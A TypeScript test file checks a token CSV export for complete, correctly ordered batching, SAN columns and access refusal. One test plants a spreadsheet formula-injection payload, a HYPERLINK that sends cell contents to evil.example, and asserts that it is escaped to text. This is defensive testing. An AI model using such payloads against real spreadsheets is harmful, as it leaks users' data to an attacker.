import { beforeAll, describe, expect, it } from "vitest";
import { createTokenBatch, tokensCsvStream } from "@/lib/domain/tokens";
import { EXPORT_BATCH } from "@/lib/domain/tokens/export";
import { parse } from "csv-parse/sync";
import { makeFrontdoor, makeUser } from "@/lib/testing/fixtures";
import { formulaPieces } from "@/lib/testing/spreadsheet";

// The CSV export reads in batches from where the last ended (Prisma's cursor): across batch
// boundaries no token may be missed or repeated, in any sort order, and a refusal comes
// before any byte of CSV.

const COUNT = 2 * EXPORT_BATCH + 7;

describe("exporting tokens as CSV", () => {
  let frontdoorId: string;
  let principal: Awaited<ReturnType<typeof makeUser>>["principal"];

  beforeAll(async () => {
    frontdoorId = (await makeFrontdoor()).id;
    principal = (await makeUser("operator", [frontdoorId])).principal;
    for (let start = 0; start < COUNT; start += 1000) {
      // Names repeat in pairs, so the sort by name leans on the id tie-breaker across batches.
      const tokens = Array.from({ length: Math.min(1000, COUNT - start) }, (_, i) => ({ name: `device-${String(Math.floor((start + i) / 2)).padStart(5, "0")}`, commonName: `d${start + i}.example.com` }));
      await createTokenBatch(principal, frontdoorId, { json: { tokens } });
    }
  });

  const exported = async (sort: string) => parse(await new Response(await tokensCsvStream(principal, frontdoorId, { sort })).text()) as string[][];

  it.each(["name,asc", "name,desc", "createdAt,desc", "commonName,asc"])("every token exactly once, in order, sorted by %s", async (sort) => {
    const [header, ...rows] = await exported(sort);
    expect(header!.slice(0, 4)).toEqual(["id", "name", "status", "commonName"]);
    expect(rows).toHaveLength(COUNT);
    const ids = rows.map((r) => r[0]);
    expect(new Set(ids).size).toBe(COUNT);
    if (sort.startsWith("name")) {
      const names = rows.map((r) => r[1]!);
      const sorted = [...names].sort();
      expect(names).toEqual(sort.endsWith("asc") ? sorted : sorted.reverse());
    }
  });

  it("a name made to run as a formula in a semicolon-locale spreadsheet stays text", async () => {
    const hostile = (await makeFrontdoor()).id;
    const name = 'x;=HYPERLINK("http://evil.example/?"&A1,"click")';
    const operator = (await makeUser("operator", [hostile])).principal;
    await createTokenBatch(operator, hostile, { json: { tokens: [{ name, commonName: "-x.example.com", organization: "a,@SUM(A1)" }] } });
    const text = await new Response(await tokensCsvStream(operator, hostile)).text();
    expect(formulaPieces(text)).toEqual([]);
    expect((parse(text) as string[][])[1]![1]).toBe(`x;'=HYPERLINK("http://evil.example/?"&A1,"click")`);
  });

  it("ends each row with the token's SANs in the batch CSV's columns, space-separated", async () => {
    const own = (await makeFrontdoor()).id;
    const operator = (await makeUser("operator", [own])).principal;
    await createTokenBatch(operator, own, { json: { tokens: [{ name: "named", subjectAltNames: { dns: ["a.example.com", "b.example.com"], email: ["ci@example.com"] } }, { name: "plain" }] } });
    const [header, ...rows] = parse(await new Response(await tokensCsvStream(operator, own, { sort: "name,asc" })).text()) as string[][];
    expect(header!.slice(-4)).toEqual(["dnsNames", "ipAddresses", "uris", "emails"]);
    expect(rows.map((r) => r.slice(-4))).toEqual([["a.example.com b.example.com", "", "", "ci@example.com"], ["", "", "", ""]]);
  });

  it("refuses a caller without access before streaming anything", async () => {
    const outsider = (await makeUser("operator", [])).principal;
    await expect(tokensCsvStream(outsider, frontdoorId)).rejects.toMatchObject({ code: "frontdoor_not_found" });
  });
});
